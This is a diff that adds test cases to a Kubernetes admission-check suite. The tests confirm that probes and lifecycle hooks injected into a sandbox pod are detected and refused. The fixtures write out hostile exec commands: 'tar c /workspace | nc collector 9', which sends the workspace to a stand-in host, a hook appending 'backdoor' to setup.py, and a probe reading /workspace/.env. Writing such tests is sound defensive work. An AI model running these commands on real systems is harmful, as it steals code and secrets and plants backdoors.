@@ -445,6 +445,52 @@ describe('the admitted sandbox pod: what a webhook adds is refused', () => {
       }),
       added: [{ kind: 'automountServiceAccountToken', name: 'unset' }],
     },
+    // The kubelet runs these in the container with no exec session, so no check before each.
+    {
+      name: "an exec readiness probe that reads the run's workspace",
+      pod: injected((pod) => {
+        sandbox(pod).readinessProbe = { exec: { command: ['sh', '-c', 'tar c /workspace | base64; exit 1'] }, periodSeconds: 10 };
+      }),
+      added: [{ kind: 'probe', name: 'readinessProbe', container: 'sandbox' }],
+    },
+    {
+      name: 'a liveness and a startup probe',
+      pod: injected((pod) => {
+        sandbox(pod).livenessProbe = { httpGet: { path: '/healthz', port: 8080 } };
+        sandbox(pod).startupProbe = { tcpSocket: { port: 22 } };
+      }),
+      added: [
+        { kind: 'probe', name: 'livenessProbe', container: 'sandbox' },
+        { kind: 'probe', name: 'startupProbe', container: 'sandbox' },
+      ],
+    },
+    {
+      name: 'a postStart and a preStop hook',
+      pod: injected((pod) => {
+        sandbox(pod).lifecycle = {
+          postStart: { exec: { command: ['sh', '-c', 'echo backdoor >> /workspace/setup.py'] } },
+          preStop: { exec: { command: ['sh', '-c', 'tar c /workspace | nc collector 9'] } },
+        };
+      }),
+      added: [
+        { kind: 'lifecycle', name: 'postStart', container: 'sandbox' },
+        { kind: 'lifecycle', name: 'preStop', container: 'sandbox' },
+      ],
+    },
+    {
+      name: "a claimed warm pool pod's copy with an exec probe and a postStart hook (planted with the run's claim and owner)",
+      pod: (() => {
+        const pod = claimedPoolPod();
+        sandbox(pod).readinessProbe = { exec: { command: ['cat', '/workspace/.env'] } };
+        sandbox(pod).lifecycle = { postStart: { exec: { command: ['sh', '-c', 'sleep 5; echo x >> /workspace/Makefile'] } } };
+        return pod;
+      })(),
+      run: parsedRun(),
+      added: [
+        { kind: 'probe', name: 'readinessProbe', container: 'sandbox' },
+        { kind: 'lifecycle', name: 'postStart', container: 'sandbox' },
+      ],
+    },
   ];
   it.each(cases)('$name', ({ pod, run, added }) => {
     expect(additions(pod, run)).toEqual(added);
@@ -814,6 +860,15 @@ describe('the admitted sandbox pod: another image, command or rights than the op
         pod.spec!.hostPID = true;
       }),
     ).toEqual(["hostPID true (the operator's pod has false)", 'securityContext runAsUser 0 (the operator sets 1000) in container sandbox']);
+    expect(
+      describe((pod) => {
+        sandbox(pod).readinessProbe = { exec: { command: ['tar', 'c', '/workspace'] } };
+        sandbox(pod).lifecycle = { postStart: { httpGet: { path: '/hook', port: 9000 } } };
+      }),
+    ).toEqual([
+      'probe readinessProbe (exec ["tar","c","/workspace"]; the operator\'s pod has none) in container sandbox',
+      'lifecycle hook postStart (httpGet 9000/hook) in container sandbox',
+    ]);
   });
 });
 
